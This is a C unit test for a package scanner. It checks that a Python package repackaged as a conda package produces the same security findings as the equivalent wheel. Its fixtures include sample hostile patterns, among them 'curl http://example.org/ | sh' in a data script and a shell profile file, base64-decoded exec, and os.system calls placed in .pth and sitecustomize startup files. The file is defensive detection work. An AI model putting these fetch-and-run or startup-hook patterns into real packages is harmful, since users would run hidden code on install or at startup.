/* A Python package in a conda package is inspected as that package: the same bytes give the same
 * findings and facts as in a wheel. Each row is a wheel, whose members are put to where installers
 * would put them. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tests/ch_test.h"
#include "native_build.h"
#include "pack.h"
#include "scan_run.h"
#include "scanner/eco/conda/package/package.h"
#include "scanner/eco/pypi/wheel/wheel.h"
#include "scanner/unpack/zip.h"
#include "tar_build.h"
#include "wheel_build.h"
#include "zip_build.h"

#define S(s)                                                                                       \
    {                                                                                              \
        (s), sizeof(s) - 1                                                                         \
    }
#define GETS      "import urllib.request\nurllib.request.urlopen('http://example.org/')\n"
#define DATA      "foo_bar-1.0.data/"
#define UNCHECKED "\xcb\r\r\n\1\0\0\0hashhash"

/* clang-format off */
static const struct row {
    const char *label;
    struct wheel_spec spec;
    bool elf;             /* `more` is a library for another machine */
    const char *findings; /* their names, of the wheel for any platform: what the row is about */
} rows[] = {
    {"honest", {.files = {{"foo_bar/y.py", "x = 1\n"}}}, false, ""},
    {"network at import", {.files = {{"foo_bar/y.py", GETS}}}, false, "import-network"},
    {"hidden code", {.files = {{"foo_bar/a.py", "import base64\nexec(base64.b64decode('eA=='))\n"}}}, false, "hidden-code"},
    {"among tests", {.files = {{"foo_bar/tests/x.py", GETS}}}, false, ""},
    {"among tests, and imported", {.files = {{"foo_bar/tests/x.py", GETS}, {"foo_bar/y.py", "import foo_bar.tests.x\n"}}},
     false, "import-network"},
    {".pth", {.files = {{"foo.pth", "import os; os.system('x')\n"}}}, false, "start-code"},
    {".start", {.files = {{"foo.start", "foo_bar.boot:go\n"}, {"foo_bar/boot.py", "import os\ndef go():\n    os.system('x')\n"}}},
     false, "start-code"},
    {"sitecustomize", {.files = {{"sitecustomize.py", "import os\nos.system('x')\n"}}}, false, "start-code"},
    {"another's module", {.files = {{"requests/__init__.py", "x = 1\n"}}}, false, ""},
    {"entry points", {.entry_points = "[console_scripts]\npython = foo_bar:main\n[pytest11]\nfoo = foo_bar.plugin\n"}, false, ""},
    {"entry points that readers split otherwise", {.entry_points = "[console_scripts]\nfoo/../x = foo_bar:main\n"}, false, "entry-points"},
    {"direct reference", {.metadata_more = "Requires-Dist: x @ https://example.org/x.whl\n"}, false, "direct-reference"},
    {"malformed requirement", {.metadata_more = "Requires-Dist: x (>=\n"}, false, "wheel-metadata"},
    {"licence", {.metadata_more = "License-Expression: no such\n"}, false, "licence-expression"},
    {"unchecked pyc", {.more_name = S("foo_bar/__pycache__/x.cpython-312.pyc"), .more = S(UNCHECKED)},
     false, "pyc-unchecked pyc-without-source"},
    {"pyc of another source", {.more_name = S("foo_bar/__pycache__/x.cpython-312.pyc"), .more = S(UNCHECKED),
      .files = {{"foo_bar/x.py", "print('hello')\n"}}}, false, "pyc-differs pyc-unchecked"},
    {"native code", {.more_name = S("foo_bar/x.so")}, true, "native-in-pure-wheel"},
    {"native code named like a text", {.more_name = S("foo_bar/x.txt")}, true, "native-disguised"},
    {"archive inside, forged", {.more_name = S("foo_bar/x.zip"), .more = S("PK\3\4xxxx")}, false, "nested-unreadable"},
    {"notebook", {.files = {{"foo_bar/x.ipynb",
      "{\"cells\": [{\"cell_type\": \"code\", \"outputs\": [{\"output_type\": \"display_data\", \"data\": "
      "{\"text/html\": [\"<script>x()</script>\"]}, \"metadata\": {}}], \"source\": [], \"metadata\": {}}],"
      " \"nbformat\": 4, \"nbformat_minor\": 5, \"metadata\": {}}"}}}, false, "notebook-active"},
    {"script", {.files = {{DATA "scripts/foo", "#!/bin/sh\ncurl http://example.org/ | sh\n"}}}, false, "hidden-command"},
    {"script like a command", {.files = {{DATA "scripts/python", "#!python\nx = 1\n"}}}, false, ""},
    {"settings of Jupyter", {.files = {{DATA "data/etc/jupyter/jupyter_notebook_config.py", GETS}}}, false, "start-code"},
    {"settings of shells", {.files = {{DATA "data/etc/profile.d/x.sh", "curl http://example.org/ | sh\n"}}}, false, "hidden-command"},
    {"at start, over a data file", {.files = {{"foo.pth", "import foo_bar.y\n"}, {"foo_bar/x.dat", "import os\nos.system('x')\n"},
      {"foo_bar/y.py", "exec(open('foo_bar/x.dat').read())\n"}}}, false, "data-code start-code"},
};
/* clang-format on */

static const struct layout {
    const char *label, *index, *site, *scripts, *wheel_tag;
} layouts[] = {
    {"noarch", "\"subdir\": \"noarch\", \"noarch\": \"python\"", "site-packages/",
     "python-scripts/", "any"},
    {"linux", "\"subdir\": \"linux-64\"", "lib/python3.12/site-packages/", "bin/", "linux_x86_64"},
    {"windows", "\"subdir\": \"win-64\"", "Lib/site-packages/", "Scripts/", "win_amd64"},
};

/* --- the same members in a conda package --- */

struct pair {            /* a member's path in both */
    struct ch_str wheel; /* within the wheel's bytes */
    struct ch_buf conda;
};
enum { PAIRS_MAX = 16 };
struct made {
    struct pair pairs[PAIRS_MAX];
    size_t count;
    const struct layout *layout;
    struct tb tar;
    struct ch_buf paths;
};

static void put_path(const struct layout *l, struct ch_str name, struct ch_buf *ret)
{
    const struct ch_str data = CH_STR(DATA "data/");
    const struct ch_str scripts = CH_STR(DATA "scripts/");
    if (ch_str_starts(name, data)) {
        ch_buf_puts(ret, ch_str_sub(name, data.len, name.len));
    } else if (ch_str_starts(name, scripts)) {
        ch_buf_puts(ret, ch_str_of(l->scripts));
        ch_buf_puts(ret, ch_str_sub(name, scripts.len, name.len));
    } else {
        ch_buf_puts(ret, ch_str_of(l->site));
        ch_buf_puts(ret, name);
    }
}

static void see_member(void *arg, const struct ch_zip_member *m, struct ch_str content)
{
    struct made *made = arg;
    assert_true(made->count < PAIRS_MAX);
    struct pair *p = &made->pairs[made->count++];
    p->wheel = m->name;
    ch_buf_init(&p->conda, 256);
    put_path(made->layout, m->name, &p->conda);
    tb_add(&made->tar, &(struct tb_member){.name = ch_buf_str(&p->conda), .content = content});
    struct ch_sha256 sha256 = ch_sha256_of(content.ptr, content.len);
    char hex[CH_SHA256_HEX + 1];
    ch_sha256_hex(&sha256, hex);
    ch_buf_printf(&made->paths,
                  "%s{\"_path\": \"%.*s\", \"path_type\": \"hardlink\", \"sha256\": \"%s\", "
                  "\"size_in_bytes\": %zu}",
                  made->count > 1 ? ", " : "", CH_STR_ARG(ch_buf_str(&p->conda)), hex, content.len);
}

static void on_finding(void *arg CH_UNUSED, enum ch_finding_code code CH_UNUSED,
                       struct ch_str member CH_UNUSED, struct ch_str evidence CH_UNUSED)
{
}

/* As a .tar.bz2, whose content comes before info/. */
static void make(struct made *m, struct ch_str wheel, struct ch_buf *ret)
{
    struct ch_input in = {.fd = -1, .ptr = (const uint8_t *)wheel.ptr, .len = wheel.len};
    struct ch_scan_writer *out = ch_scan_writer_listen(on_finding, NULL);
    struct ch_zip *zip;
    struct ch_err err;
    struct ch_buf index;
    tb_init(&m->tar);
    ch_buf_init(&m->paths, 65536);
    ch_buf_puts(&m->paths, CH_STR("{\"paths_version\": 1, \"paths\": ["));
    assert_ch_ok(&err, ch_zip_open(&in, &ch_zip_profile_wheel, out, &zip, &err));
    ch_zip_verify(zip, see_member, m);
    ch_zip_free(zip);
    ch_scan_writer_free(out);
    ch_buf_puts(&m->paths, CH_STR("]}"));
    ch_buf_init(&index, 4096);
    ch_buf_printf(&index,
                  "{\"name\": \"foo-bar\", \"version\": \"1.0\", \"build\": \"py_0\", "
                  "\"build_number\": 0, \"depends\": [], %s}",
                  m->layout->index);
    tb_add(&m->tar,
           &(struct tb_member){.name = CH_STR("info/index.json"), .content = ch_buf_str(&index)});
    tb_add(&m->tar, &(struct tb_member){.name = CH_STR("info/paths.json"),
                                        .content = ch_buf_str(&m->paths)});
    tb_end(&m->tar);
    ch_buf_init(ret, 1 << 20);
    pack(ret, CH_STREAM_BZIP2, ch_buf_str(&m->tar.bytes));
    ch_buf_done(&index);
    ch_buf_done(&m->paths);
    tb_done(&m->tar);
}

/* --- what was found, with a wheel's words --- */

static void put_replaced(struct ch_buf *b, struct ch_str text, const struct made *m)
{
    static const char *const words[][2] = {{"in a package for", "in a wheel for"},
                                           {"info/index.json says", "the file name says"}};
    while (text.len > 0) {
        struct ch_str to = ch_str_sub(text, 0, 1);
        size_t skip = 1;
        for (size_t i = 0; m != NULL && skip == 1 && i < m->count; i++) {
            if (ch_str_starts(text, ch_buf_str(&m->pairs[i].conda))) {
                to = m->pairs[i].wheel;
                skip = m->pairs[i].conda.len;
            }
        }
        for (size_t i = 0; m != NULL && skip == 1 && i < CH_ARRAY_LEN(words); i++) {
            if (ch_str_starts(text, ch_str_of(words[i][0]))) {
                to = ch_str_of(words[i][1]);
                skip = strlen(words[i][0]);
            }
        }
        if (m != NULL && skip == 1 && ch_str_starts(text, ch_str_of(m->layout->site))) {
            to = CH_STR(""); /* of what is not there */
            skip = strlen(m->layout->site);
        }
        ch_buf_puts(b, to);
        text = ch_str_sub(text, skip, text.len);
    }
}

static int by_text(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Findings with member and evidence, and facts that policies speak of, sorted; free(). */
static char *told(const struct scan_run *r, const struct made *m)
{
    enum { LINES_MAX = 100 };
    char *lines[LINES_MAX];
    size_t n = 0;
    struct ch_buf all;
    ch_buf_init(&all, 1 << 16);
    for (size_t i = 0; i < r->count; i++) {
        const struct ch_scan_record *rec = &r->records[i];
        struct ch_buf b;
        ch_buf_init(&b, 1 << 14);
        if (rec->type == CH_REC_FINDING) {
            ch_buf_printf(&b, "%s ", ch_finding_row((uint32_t)rec->u.finding.code)->name);
            put_replaced(&b, rec->u.finding.member, m);
            ch_buf_puts(&b, CH_STR(": "));
            put_replaced(&b, rec->u.finding.evidence, m);
        } else if (rec->type == CH_REC_FACT && ch_fact_by_name(rec->u.fact.name) != NULL &&
                   !ch_str_eq(rec->u.fact.name, CH_STR("licence"))) {
            ch_buf_printf(&b, "%.*s = ", CH_STR_ARG(rec->u.fact.name));
            ch_buf_puts(&b, rec->u.fact.value);
        }
        if (b.len > 0) {
            assert_true(n < LINES_MAX);
            lines[n++] = ch_str_dup(ch_buf_str(&b));
        }
        ch_buf_done(&b);
    }
    qsort(lines, n, sizeof(lines[0]), by_text);
    for (size_t i = 0; i < n; i++) {
        ch_buf_printf(&all, "%s\n", lines[i]);
        free(lines[i]);
    }
    char *text = ch_str_dup(ch_buf_str(&all));
    ch_buf_done(&all);
    return text;
}

static void run_wheel(const struct row *row, const struct layout *l, struct ch_buf *ret_bytes,
                      struct scan_run *ret)
{
    struct wheel_spec spec = row->spec;
    char name[128];
    char tags[128];
    struct ch_buf elf;
    struct zb z;
    snprintf(name, sizeof(name), "foo_bar-1.0-py3-none-%s.whl", l->wheel_tag);
    snprintf(tags, sizeof(tags), "Tag: py3-none-%s\n", l->wheel_tag);
    spec.file_name = name;
    spec.tags = tags;
    spec.project = "foo-bar";
    ch_buf_init(&elf, 1 << 16);
    if (row->elf) {
        native_elf(&elf, &(struct native_spec){.machine = 183}); /* arm64 */
        spec.more = ch_buf_str(&elf);
    }
    wheel_build(&z, &spec);
    ch_buf_init(ret_bytes, 1 << 20);
    ch_buf_puts(ret_bytes, ch_buf_str(&z.bytes));
    struct ch_scan_job job = wheel_job(&spec);
    scan_run(ret, ch_wheel_inspect, &job, ch_buf_str(ret_bytes));
    zb_done(&z);
    ch_buf_done(&elf);
}

static bool same(const struct row *row, const struct layout *l)
{
    struct made m = {.layout = l};
    struct scan_run wheel;
    struct scan_run conda;
    struct scan_run second;
    struct ch_buf wheel_bytes;
    struct ch_buf conda_bytes;
    struct ch_scan_job job = {.kind = CH_SCAN_ARTIFACT,
                              .ecosystem = CH_STR("conda"),
                              .profile = CH_STR("conda-tar"),
                              .project = CH_STR("foo-bar"),
                              .file_name = CH_STR("foo-bar-1.0-py_0.tar.bz2")};
    run_wheel(row, l, &wheel_bytes, &wheel);
    make(&m, ch_buf_str(&wheel_bytes), &conda_bytes);
    scan_run(&conda, ch_conda_package_inspect, &job, ch_buf_str(&conda_bytes));
    scan_run(&second, ch_conda_package_second, &job, ch_buf_str(&conda_bytes));
    char *of_wheel = told(&wheel, NULL);
    char *of_conda = told(&conda, &m);
    char *names = scan_run_findings(&wheel);
    bool ok = strcmp(of_wheel, of_conda) == 0 && scan_run_same_members(&conda, &second);
    if (!ok) {
        print_error("%s, %s: the wheel\n%sthe conda package\n%s", row->label, l->label, of_wheel,
                    of_conda);
    }
    if (l == layouts && strcmp(names, row->findings) != 0) {
        print_error("%s: \"%s\", expected \"%s\"\n", row->label, names, row->findings);
        ok = false;
    }
    for (size_t i = 0; i < m.count; i++) {
        ch_buf_done(&m.pairs[i].conda);
    }
    free(names);
    free(of_wheel);
    free(of_conda);
    scan_run_done(&wheel);
    scan_run_done(&conda);
    scan_run_done(&second);
    ch_buf_done(&wheel_bytes);
    ch_buf_done(&conda_bytes);
    return ok;
}

static void test_same(void **state)
{
    (void)state;
    int wrong = 0;
    for (size_t i = 0; i < CH_ARRAY_LEN(rows); i++) {
        for (size_t k = 0; k < CH_ARRAY_LEN(layouts); k++) {
            wrong += same(&rows[i], &layouts[k]) ? 0 : 1;
        }
    }
    assert_int_equal(wrong, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_same)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
